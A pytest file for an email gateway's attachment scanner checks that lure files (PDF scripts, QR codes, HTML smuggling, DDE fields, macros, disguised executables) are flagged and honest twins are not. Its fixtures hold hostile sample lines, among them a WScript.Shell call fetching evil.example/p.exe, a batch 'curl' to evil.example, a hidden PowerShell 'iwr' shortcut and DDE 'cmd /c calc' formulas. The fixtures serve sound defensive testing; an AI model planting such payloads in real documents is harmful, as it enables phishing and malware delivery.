# ruff: noqa: E501 - the table has one case a line
"""Every reader over real files: what a lure hides is found, and its honest twin gives no such finding."""

from base64 import b64encode
from collections.abc import Callable
from random import randbytes

import pytest

from gateway.inspection.limits import ReadLimits
from gateway.inspection.read_part import read_part
from gateway.inspection.reading import Reading
from gateway.model.content_facts import AttachmentFlag as Flag
from tests import attachment_archives as archives
from tests import attachment_files as files
from tests import attachment_office as office
from tests.attachment_files import LURE

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200
SCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('https://evil.example/p.exe')"
OTHER = "https://autre.example/page"

# name, file name, bytes, flags that must stand, flags that must not, addresses that must be found
Row = tuple[str, str, Callable[[], bytes], set[Flag], set[Flag], set[str]]
ROWS: list[Row] = [
    ("pdf link", "a.pdf", lambda: files.pdf("Cliquez ici", links=[LURE]), {Flag.PDF, Flag.PDF_LINK_ONLY}, {Flag.QR_CODE}, {LURE}),
    ("pdf link in an object stream", "a.pdf", lambda: files.pdf("Ici", links=[LURE], packed=True), {Flag.PDF}, set(), {LURE}),
    ("pdf long with a link", "a.pdf", lambda: files.pdf("\n".join(["Conditions generales du contrat de sante."] * 50), links=[OTHER]), {Flag.PDF}, {Flag.PDF_LINK_ONLY, Flag.PDF_SCRIPT}, {OTHER}),
    ("pdf picture code", "a.pdf", lambda: files.pdf("", picture=files.code_picture(LURE)), {Flag.PDF, Flag.QR_CODE}, set(), {LURE}),
    ("pdf drawn code", "a.pdf", lambda: files.pdf("Bonjour", drawn=files.code_picture(LURE, scale=1)), {Flag.QR_CODE}, set(), {LURE}),
    ("pdf drawn code beside much text", "a.pdf", lambda: files.pdf("\n".join(["Votre dossier est incomplet."] * 20), drawn=files.code_picture(LURE, scale=1)), {Flag.QR_CODE}, set(), {LURE}),
    ("pdf script", "a.pdf", lambda: files.pdf("x", catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), {Flag.PDF_SCRIPT}, {Flag.PDF_LAUNCH}, set()),
    ("pdf script with an escaped name", "a.pdf", lambda: files.pdf("x", catalog="/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"), {Flag.PDF_SCRIPT}, set(), set()),
    ("pdf script in a stream", "a.pdf", lambda: files.pdf("x", catalog="/AA 20 0 R", objects=[b"<</S/JavaScript/JS 21 0 R>>", b"<</Length 47>>stream\nthis.exportDataObject({cName:'a.exe',nLaunch:2});\nendstream"]), {Flag.PDF_SCRIPT}, set(), set()),
    ("pdf form that adds up", "a.pdf", lambda: files.pdf("x", catalog="/AcroForm<</Fields[20 0 R]>>", objects=[b"<</FT/Tx/T(total)/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);)>>>>>>"]), {Flag.PDF_FORM}, {Flag.PDF_SCRIPT}, set()),
    ("pdf launch", "a.pdf", lambda: files.pdf("x", catalog="/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"), {Flag.PDF_LAUNCH}, set(), set()),
    ("pdf form", "a.pdf", lambda: files.pdf("x", catalog="/AcroForm<</Fields[20 0 R]>>", objects=[b"<</FT/Tx/T(nir)>>"]), {Flag.PDF_FORM}, set(), set()),
    ("pdf submit", "a.pdf", lambda: files.pdf("x", objects=[f"<</S/SubmitForm/F<</FS/URL/F({LURE})>>>>".encode()]), {Flag.PDF_FORM}, set(), {LURE}),
    ("pdf with a file", "a.pdf", lambda: files.pdf_with_file("facture.html", files.form_page()), {Flag.EMBEDDED_FILE, Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("pdf with a program", "a.pdf", lambda: files.pdf_with_file("facture.exe", PROGRAM), {Flag.EMBEDDED_FILE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("pdf encrypted", "a.pdf", lambda: files.encrypted_pdf(files.pdf("x", links=[LURE]), "secret"), {Flag.ENCRYPTED}, set(), set()),
    ("pdf encrypted with no password", "a.pdf", lambda: files.encrypted_pdf(files.pdf("x", links=[LURE]), ""), {Flag.PDF}, {Flag.ENCRYPTED}, {LURE}),
    ("pdf plain", "a.pdf", lambda: files.pdf("Attestation de droits\nValable un an"), {Flag.PDF}, {Flag.PDF_LINK_ONLY, Flag.QR_CODE, Flag.PDF_FORM}, set()),
    ("png code", "a.png", lambda: files.qr(), {Flag.PICTURE, Flag.QR_CODE}, set(), {LURE}),
    ("png code, small", "a.png", lambda: files.qr(scale=2), {Flag.QR_CODE}, set(), {LURE}),
    ("gif code", "a.gif", lambda: files.qr(form="GIF"), {Flag.QR_CODE}, set(), {LURE}),
    ("webp code", "a.webp", lambda: files.qr(form="WEBP"), {Flag.QR_CODE}, set(), {LURE}),
    ("bmp code", "a.bmp", lambda: files.qr(form="BMP"), {Flag.QR_CODE}, set(), {LURE}),
    ("jpeg of two codes", "a.jpg", lambda: files.poster(LURE, OTHER), {Flag.QR_CODE}, set(), {LURE, OTHER}),
    ("large jpeg code", "a.jpg", lambda: files.poster(LURE, size=(4000, 3000)), {Flag.QR_CODE}, set(), {LURE}),
    ("aztec code", "a.png", lambda: files.saved(files.code_picture(LURE, kind="Aztec")), {Flag.QR_CODE}, set(), {LURE}),
    ("data matrix", "a.png", lambda: files.saved(files.code_picture(LURE, kind="DataMatrix")), {Flag.QR_CODE}, set(), {LURE}),
    ("railway ticket", "a.png", lambda: files.saved(files.code_picture("i0CVABC123456", kind="Aztec")), {Flag.PICTURE}, {Flag.QR_CODE}, set()),
    ("white on black", "a.png", lambda: files.saved(files.code_picture(LURE).point(lambda value: 255 - value)), {Flag.QR_CODE}, set(), {LURE}),
    ("on its side", "a.png", lambda: files.saved(files.code_picture(LURE).rotate(90)), {Flag.QR_CODE}, set(), {LURE}),
    ("photograph", "a.jpg", lambda: files.photograph(), {Flag.PICTURE}, {Flag.QR_CODE}, set()),
    ("bare host in a code", "a.png", lambda: files.qr("evil.example/a"), {Flag.QR_CODE}, set(), {"http://evil.example/a"}),
    ("login page", "a.html", lambda: files.form_page(), {Flag.HTML, Flag.HTML_FORM, Flag.PASSWORD_FIELD}, {Flag.HTML_SMUGGLING, Flag.REDIRECTS}, {LURE}),
    ("login page named otherwise", "a.txt", lambda: files.form_page(), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("smuggled zip", "a.html", lambda: files.smuggling_page(archives.zipped({"facture.js": SCRIPT})), {Flag.HTML_SMUGGLING, Flag.SCRIPT_INSIDE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("page written from base64", "a.html", lambda: files.written_page(files.form_page()), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("page written from percents", "a.html", lambda: files.written_page(files.form_page(), "percent"), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("page written from codes", "a.html", lambda: files.written_page(files.form_page(), "codes"), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("page written from escapes", "a.html", lambda: files.written_page(files.form_page(), "hex"), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("redirecting page", "a.htm", lambda: f"<html><script>window.location.href='{LURE}'</script></html>".encode(), {Flag.REDIRECTS, Flag.SCRIPT_INSIDE}, {Flag.HTML_SMUGGLING}, {LURE}),
    ("redirecting page in pieces", "a.htm", lambda: f"<html><script>window['loc'+'ation']['hr'+'ef']='{LURE}'</script></html>".encode(), {Flag.REDIRECTS, Flag.SCRIPT_INSIDE}, set(), {LURE}),
    ("refreshing page", "a.htm", lambda: f"<html><meta http-equiv=refresh content='0; url={LURE}'></html>".encode(), {Flag.REDIRECTS}, {Flag.SCRIPT_INSIDE}, {LURE}),
    ("page in a data link", "a.html", lambda: b"<html><a href='data:text/html;base64," + b64encode(files.form_page()) + b"'>ouvrir</a></html>", {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("zip in a data link", "a.html", lambda: b"<html><a download=a.zip href='data:application/zip;base64," + b64encode(archives.zipped({"a.exe": PROGRAM})) + b"'>ouvrir</a></html>", {Flag.HTML_SMUGGLING, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("honest page", "releve.html", lambda: f"<html><style>p{{}}</style><p>Votre relevé</p><a href='{OTHER}'>notre site</a></html>".encode(), {Flag.HTML}, {Flag.HTML_FORM, Flag.REDIRECTS, Flag.SCRIPT_INSIDE, Flag.HTML_SMUGGLING}, {OTHER}),
    ("svg script", "a.svg", lambda: files.svg(script=f"location='{LURE}'"), {Flag.SVG, Flag.SCRIPT_INSIDE, Flag.REDIRECTS}, set(), {LURE}),
    ("svg link", "a.svg", lambda: files.svg(link=LURE), {Flag.SVG}, {Flag.SCRIPT_INSIDE}, {LURE}),
    ("svg page", "a.svg", lambda: files.svg(inner="<foreignObject><form action='" + LURE + "'><input type='password'/></form></foreignObject>"), {Flag.SVG, Flag.PASSWORD_FIELD, Flag.EMBEDDED_OBJECT}, set(), {LURE}),
    ("svg entities", "a.svg", files.laughs, {Flag.SVG, Flag.BOMB}, set(), set()),
    ("svg of Illustrator", "a.svg", lambda: files.svg().replace(b"<svg", b"<!DOCTYPE svg [<!ENTITY ns_svg 'http://www.w3.org/2000/svg'>]><svg", 1), {Flag.SVG}, {Flag.BOMB, Flag.SCRIPT_INSIDE}, set()),
    ("svg logo", "a.svg", lambda: files.svg(), {Flag.SVG}, {Flag.SCRIPT_INSIDE, Flag.BOMB}, set()),
    ("invitation", "a.ics", lambda: files.invitation(), {Flag.CALENDAR}, {Flag.EMBEDDED_FILE}, {LURE}),
    ("invitation with a page", "a.ics", lambda: files.invitation(attach=("a.html", files.form_page())), {Flag.EMBEDDED_FILE, Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("zip of a script", "a.zip", lambda: archives.zipped({"facture.js": SCRIPT}), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, {Flag.ENCRYPTED}, {"https://evil.example/p.exe"}),
    ("zip of a program in disguise", "a.zip", lambda: archives.zipped({"facture.pdf.exe": PROGRAM}), {Flag.EXECUTABLE_INSIDE, Flag.DOUBLE_EXTENSION}, set(), set()),
    ("zip of a program named pdf", "a.zip", lambda: archives.zipped({"facture.pdf": PROGRAM}), {Flag.EXECUTABLE_INSIDE, Flag.TYPE_MISMATCH}, set(), set()),
    ("zip of a reversed name", "a.zip", lambda: archives.zipped({"facture\u202efdp.exe": PROGRAM}), {Flag.RIGHT_TO_LEFT, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("zip of a page", "a.zip", lambda: archives.zipped({"doc/releve.html": files.form_page()}), {Flag.HTML, Flag.PASSWORD_FIELD}, {Flag.EXECUTABLE_INSIDE}, {LURE}),
    ("zip of a pdf", "a.zip", lambda: archives.zipped({"releve.pdf": files.pdf("x", links=[LURE])}), {Flag.PDF}, {Flag.EXECUTABLE_INSIDE}, {LURE}),
    ("zip of a code", "a.zip", lambda: archives.zipped({"a.png": files.qr()}), {Flag.QR_CODE}, set(), {LURE}),
    ("zip, encrypted", "a.zip", lambda: archives.zipped({"releve.pdf": b"x" * 100}, encrypted=True), {Flag.ENCRYPTED}, {Flag.EXECUTABLE_INSIDE}, set()),
    ("zip, encrypted program", "a.zip", lambda: archives.zipped({"facture.exe": b"x" * 100}, encrypted=True), {Flag.ENCRYPTED, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("zip in a zip", "a.zip", lambda: archives.nested_zip(1, b"voir " + LURE.encode()), {Flag.NESTED_ARCHIVE}, {Flag.BOMB}, {LURE}),
    ("zip of letters", "a.zip", lambda: archives.zipped({"lettre.txt": b"bonjour", "photo.jpg": files.photograph()}), {Flag.ARCHIVE}, {Flag.ENCRYPTED, Flag.EXECUTABLE_INSIDE, Flag.NESTED_ARCHIVE, Flag.BOMB}, set()),
    ("zip of much", "a.zip", lambda: archives.zipped({f"{n}.dat": randbytes(1_000_000) for n in range(12)}, stored=True), {Flag.ARCHIVE}, {Flag.BOMB}, set()),
    ("tar", "a.tar", lambda: archives.tarred({"facture.js": SCRIPT}), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("tar.gz", "a.tar.gz", lambda: archives.tarred({"facture.exe": PROGRAM}, "w:gz"), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, {Flag.BOMB}, set()),
    ("tar.bz2", "a.tbz", lambda: archives.tarred({"page.html": files.form_page()}, "w:bz2"), {Flag.PASSWORD_FIELD}, {Flag.BOMB}, {LURE}),
    ("tar.xz", "a.txz", lambda: archives.tarred({"page.html": files.form_page()}, "w:xz"), {Flag.PASSWORD_FIELD}, {Flag.BOMB}, {LURE}),
    ("long names in a tar", "a.tar", lambda: archives.tarred({"d/" * 80 + "facture.vbs": b"x"}), {Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("7z", "a.7z", lambda: archives.seven_zip(["facture.exe"]), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, {Flag.ENCRYPTED}, set()),
    ("7z, packed header", "a.7z", lambda: archives.seven_zip(["doc/facture.pdf.js"], packed_header=True), {Flag.EXECUTABLE_INSIDE, Flag.DOUBLE_EXTENSION}, {Flag.ENCRYPTED}, set()),
    ("7z, encrypted", "a.7z", lambda: archives.seven_zip(["releve.pdf"], encrypted=True), {Flag.ENCRYPTED}, {Flag.EXECUTABLE_INSIDE}, set()),
    ("rar 4", "a.rar", lambda: archives.rar4(["a.txt", "facture.scr"]), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, {Flag.ENCRYPTED}, set()),
    ("rar 4, encrypted", "a.rar", lambda: archives.rar4(["a.txt"], encrypted=True), {Flag.ENCRYPTED}, {Flag.EXECUTABLE_INSIDE}, set()),
    ("rar 5", "a.rar", lambda: archives.rar5(["a.txt", "facture.lnk"]), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, {Flag.ENCRYPTED}, set()),
    ("rar 5, encrypted", "a.rar", lambda: archives.rar5(["a.txt"], encrypted=True), {Flag.ENCRYPTED}, {Flag.EXECUTABLE_INSIDE}, set()),
    ("cabinet", "a.cab", lambda: archives.cabinet(["lettre.txt", "facture.bat"]), {Flag.ARCHIVE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("disk image", "a.iso", lambda: archives.iso_image({"FACTURE.LNK": office.shell_link("calc")}), {Flag.DISK_IMAGE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("docx plain", "a.docx", lambda: office.docx("Compte rendu"), {Flag.OFFICE}, {Flag.MACRO, Flag.EXTERNAL_TEMPLATE, Flag.EMBEDDED_OBJECT, Flag.ARCHIVE}, set()),
    ("docx macro", "a.docm", lambda: office.docx(macro=True), {Flag.OFFICE, Flag.MACRO}, {Flag.EXTERNAL_TEMPLATE}, set()),
    ("docx template", "a.docx", lambda: office.docx(template="https://evil.example/t.dotm"), {Flag.EXTERNAL_TEMPLATE}, {Flag.MACRO}, {"https://evil.example/t.dotm"}),
    ("docx own template", "a.docx", lambda: office.docx(template="file:///C:/Users/a/Normal.dotm"), {Flag.OFFICE}, {Flag.EXTERNAL_TEMPLATE}, set()),
    ("docx link", "a.docx", lambda: office.docx(links=[LURE]), {Flag.OFFICE}, {Flag.EXTERNAL_TEMPLATE}, {LURE}),
    ("docx of a chart", "a.docx", lambda: office.docx(members={"word/embeddings/Feuille1.xlsx": office.docx()}), {Flag.OFFICE}, {Flag.EMBEDDED_OBJECT, Flag.NESTED_ARCHIVE}, set()),
    ("rtf of the DDE", "a.rtf", lambda: office.rtf(text="Direction de l'equipement : DDE du Gard"), {Flag.OFFICE}, {Flag.DDE}, set()),
    ("docx field", "a.docx", lambda: office.docx(field='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), {Flag.DDE}, set(), set()),
    ("docx object", "a.docx", lambda: office.docx(members={"word/embeddings/oleObject1.bin": office.compound({("\x01Ole10Native",): office.package("facture.exe", PROGRAM)})}), {Flag.EMBEDDED_OBJECT, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("docx code", "a.docx", lambda: office.docx(members={"word/media/image1.png": files.qr()}), {Flag.QR_CODE}, {Flag.PICTURE}, {LURE}),
    ("workbook plain", "a.xlsx", lambda: office.workbook(strings="Total", formula="SUM(A1:A9)"), {Flag.OFFICE}, {Flag.DDE, Flag.MACRO}, set()),
    ("workbook formula link", "a.xlsx", lambda: office.workbook(formula='HYPERLINK("' + LURE + '","ouvrir")'), {Flag.OFFICE}, {Flag.DDE}, {LURE}),
    ("workbook dde", "a.xlsx", lambda: office.workbook(dde=True), {Flag.DDE}, set(), set()),
    ("workbook command", "a.xlsx", lambda: office.workbook(formula="cmd|'/c calc'!A0"), {Flag.DDE}, set(), set()),
    ("workbook macro sheet", "a.xlsm", lambda: office.workbook(old_macro=True), {Flag.MACRO}, set(), set()),
    ("odt plain", "a.odt", lambda: office.odt(link=LURE), {Flag.OFFICE}, {Flag.MACRO}, {LURE}),
    ("odt macro", "a.odt", lambda: office.odt(macro=True), {Flag.MACRO}, set(), set()),
    ("doc plain", "a.doc", lambda: office.old_word(link=LURE), {Flag.OFFICE}, {Flag.MACRO, Flag.EMBEDDED_OBJECT, Flag.ENCRYPTED}, {LURE}),
    ("doc macro", "a.doc", lambda: office.old_word(macro=True), {Flag.MACRO}, set(), set()),
    ("doc package", "a.doc", lambda: office.old_word(packed=("facture.vbs", SCRIPT)), {Flag.EMBEDDED_OBJECT, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("doc encrypted", "a.doc", lambda: office.old_word(encrypted=True), {Flag.ENCRYPTED}, set(), set()),
    ("docx encrypted", "a.docx", lambda: office.compound({("EncryptionInfo",): b"x", ("EncryptedPackage",): b"x"}), {Flag.ENCRYPTED, Flag.OFFICE}, {Flag.MACRO}, set()),
    ("rtf plain", "a.rtf", lambda: office.rtf(link=LURE), {Flag.OFFICE}, {Flag.EMBEDDED_OBJECT, Flag.EXTERNAL_TEMPLATE}, {LURE}),
    ("rtf template", "a.doc", lambda: office.rtf(template="https://evil.example/t.rtf"), {Flag.EXTERNAL_TEMPLATE}, set(), set()),
    ("rtf package", "a.rtf", lambda: office.rtf(packed=("facture.exe", PROGRAM)), {Flag.EMBEDDED_OBJECT, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("onenote script", "a.one", lambda: office.onenote(b"MZ" + PROGRAM[2:]), {Flag.EMBEDDED_FILE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("onenote batch file", "a.one", lambda: office.onenote(b"@echo off\r\ncurl https://evil.example/p\r\n") + "facture.bat\0".encode("utf-16-le"), {Flag.EMBEDDED_FILE, Flag.EXECUTABLE_INSIDE}, set(), set()),
    ("onenote picture", "a.one", lambda: office.onenote(files.qr()), {Flag.OFFICE}, {Flag.EMBEDDED_FILE}, set()),
    ("shell link", "a.lnk", lambda: office.shell_link(f"-w hidden iwr {LURE}"), {Flag.SHORTCUT}, set(), {LURE}),
    ("internet shortcut", "a.url", lambda: office.internet_shortcut(LURE), {Flag.SHORTCUT}, set(), {LURE}),
    ("attached mail", "a.eml", lambda: files.letter(("a.html", "text/html", files.form_page()), text=f"Bonjour {OTHER}"), {Flag.MESSAGE, Flag.PASSWORD_FIELD}, set(), {LURE, OTHER}),
    ("outlook message", "a.msg", lambda: office.outlook_message("Objet", f"voir {OTHER}", {"facture.exe": PROGRAM}), {Flag.MESSAGE, Flag.EXECUTABLE_INSIDE}, {Flag.OFFICE}, {OTHER}),
    ("winmail", "winmail.dat", lambda: office.winmail({"facture.html": files.form_page()}, "Bonjour"), {Flag.PASSWORD_FIELD}, set(), {LURE}),
    ("hta", "a.hta", lambda: f"<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"{LURE}\"</script></html>".encode(), {Flag.SCRIPT_INSIDE}, set(), {LURE}),
]  # fmt: skip


def read(data: bytes, name: str, **limits: int) -> Reading:
    return read_part(data, ReadLimits(**limits), name=name)


@pytest.mark.parametrize("row", ROWS, ids=[row[0] for row in ROWS])
def test_findings(row: Row) -> None:
    _, name, made, wanted, unwanted, addresses = row
    reading = read(made(), name)
    assert wanted <= reading.flags
    assert not unwanted & reading.flags
    assert addresses <= {link.href for link in reading.found_links()}
    assert reading.unchecked in ("", "encrypted", "unsupported", "too_large")


def test_what_a_pdf_link_shows_is_told() -> None:
    reading = read(files.pdf("https://www.ameli.fr/compte", links=[LURE]), "a.pdf")
    assert [(link.href, link.shown) for link in reading.found_links()] == [(LURE, "https://www.ameli.fr/compte")]


def test_a_code_for_a_payment_is_text_and_no_link() -> None:
    reading = read(files.qr("BCD\n002\n1\nSCT\nBICXXXXX\nMutuelle\nFR7630006000011234567890189\nEUR12.00"), "a.png")
    assert not reading.links
    assert "SCT" in "".join(reading.text)


def test_words_are_given_once_and_not_when_the_worker_has_them() -> None:
    page = b"<html><p>Bonjour</p></html>"
    assert read(page, "a.html").text == ["Bonjour"]
    assert read_part(page, ReadLimits(), name="a.html", covered=True).text == []


def test_an_attached_mail_speaks_with_another_voice() -> None:
    reading = read(files.letter(text="Votre compte est suspendu"), "a.eml")
    assert (reading.text, ["suspendu" in text for text in reading.quoted]) == ([], [True])


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.docx", office.docx("Votre compte est suspendu")),
        ("a.xlsx", office.workbook(strings="Votre compte est suspendu")),
        ("a.pptx", office.slides("Votre compte est suspendu")),
        ("a.odt", office.odt("Votre compte est suspendu")),
        ("a.rtf", office.rtf(text="Votre compte est suspendu")),
        ("a.doc", office.old_word(link="Votre compte est suspendu")),
        ("a.pdf", files.pdf("Votre compte est suspendu")),
        ("a.svg", files.svg(inner="<text>Votre compte est suspendu</text>")),
        ("a.ics", files.invitation(description="Votre compte est suspendu")),
        ("a.zip", archives.zipped({"lettre.txt": b"Votre compte est suspendu"})),
        ("winmail.dat", office.winmail({}, "Votre compte est suspendu")),
    ],
)
def test_words_are_read(name: str, data: bytes) -> None:
    assert "Votre compte est suspendu" in "".join(read(data, name).text)
